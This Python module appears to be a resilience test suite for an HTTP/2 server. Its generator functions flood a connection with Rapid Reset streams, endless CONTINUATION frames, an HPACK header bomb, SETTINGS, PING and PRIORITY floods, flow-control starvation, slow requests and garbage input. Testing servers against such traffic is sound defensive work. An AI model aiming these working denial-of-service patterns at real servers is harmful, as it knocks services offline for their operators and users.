"""Callers who mean harm, or who are lost: each floods a connection, and yields after every step."""

import contextlib
import inspect
import random
import ssl

from frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    call,
    field,
    frame,
    head,
    headers,
    message,
    reset,
    settings,
    window_update,
)

LAST_STREAM = (1 << 31) - 1


def streams():
    return range(1, LAST_STREAM, 2)


def rapid_reset(connection):
    """Calls that are reset at once, a hundred in a write."""
    connection.greet()
    ids = streams()
    for first in ids[::100]:
        connection.push(b"".join(call(stream) + reset(stream) for stream in range(first, first + 200, 2)))
        yield


def rapid_reset_paced(connection):
    """A call, its reset, and a wait until both were read."""
    connection.greet()
    for stream in streams():
        connection.push(call(stream) + reset(stream), reads=False)
        connection.ping()
        yield


def continuation(connection):
    """Headers that never end, in full frames."""
    connection.greet()
    connection.push(frame(HEADERS, 0, 1, head("/")))
    while True:
        connection.push(frame(CONTINUATION, 0, 1, field("x", "y" * 16000)))
        yield


def continuation_empty(connection):
    """Headers that never end, in frames without a byte."""
    connection.greet()
    connection.push(frame(HEADERS, 0, 1, head("/")))
    while True:
        connection.push(frame(CONTINUATION, 0, 1) * 1000)
        yield


def header_bomb(connection):
    """Headers that name one large field of the table again and again."""
    connection.greet()
    large = b"\x40" + field("x-large", "y" * 3000)[1:]
    for stream in streams():
        # 62 is the newest entry of the table.
        connection.push(frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/") + large + b"\xbe" * 10000))
        yield


def settings_flood(connection):
    """Settings that change all the time, a thousand in a write."""
    connection.greet()
    while True:
        connection.push(b"".join(settings((INITIAL_WINDOW_SIZE, size)) for size in range(1000)))
        yield


def ping_flood(connection):
    """Pings, a thousand in a write."""
    connection.greet()
    while True:
        connection.push(frame(PING, payload=b"12345678") * 1000)
        yield


def ping_flood_unread(connection):
    """The same from a caller who reads none of the answers."""
    connection.greet()
    while True:
        connection.push(frame(PING, payload=b"12345678") * 1000, reads=False)
        yield


def priority_flood(connection):
    """Priorities of streams that are not there."""
    connection.greet()
    for first in streams()[::1000]:
        connection.push(b"".join(frame(PRIORITY, 0, first + 2 * i, b"\0\0\0\0\x10") for i in range(1000)))
        yield


def empty_data(connection):
    """A request in frames without a byte."""
    connection.greet()
    connection.push(headers(1))
    while True:
        connection.push(frame(DATA, 0, 1) * 1000)
        yield


def window_of_zero(connection):
    """Streams of a caller who allows no byte of an answer, eight hundred on a connection."""
    connection.greet((INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 1600, 2):
        connection.push(call(stream))
        yield


def window_of_one(connection):
    """Streams of a caller who allows one byte at a time."""
    connection.greet((INITIAL_WINDOW_SIZE, 1))
    for stream in range(1, 200, 2):
        connection.push(call(stream))
    while True:
        connection.push(b"".join(window_update(stream, 1) for stream in range(1, 200, 2)))
        yield


def slow_headers(connection):
    """A hundred connections with a call each whose head comes byte by byte and never ends."""
    all_of_them = [connection, *(connection.again() for _ in range(99))]
    for one in all_of_them:
        one.greet()
    for byte in frame(HEADERS, END_HEADERS, 1, head("/"))[:-1]:
        for one in all_of_them:
            one.push(bytes([byte]))
        yield


def slow_body(connection):
    """Eight hundred calls whose request comes byte by byte."""
    connection.greet()
    ids = range(1, 1600, 2)
    connection.push(b"".join(map(headers, ids)))
    for place in range(len(message()) - 1):
        for stream in ids:
            connection.push(frame(DATA, 0, stream, message()[place : place + 1]))
            yield


def many_streams(connection):
    """Ten thousand calls on one connection whose requests do not end."""
    connection.greet()
    for first in streams()[:10000:100]:
        connection.push(b"".join(map(headers, range(first, first + 200, 2))))
        yield


def garbage(connection):
    """Anything but HTTP/2."""
    connection.push(random.Random(7).randbytes(1 << 16))
    yield


def garbage_frames(connection):
    """A greeting, and then anything."""
    connection.greet()
    connection.push(random.Random(8).randbytes(1 << 16))
    yield


def tls_hello(connection):
    """A caller who believes that the port speaks TLS, or that it does not."""
    hello = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello, server_hostname="localhost").do_handshake()
    connection.push(hello.read())
    yield


def http1(connection):
    """A caller who speaks HTTP/1.1."""
    connection.push(b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n")
    yield


FLOODS = [kind for kind in list(globals().values()) if inspect.isgeneratorfunction(kind)]
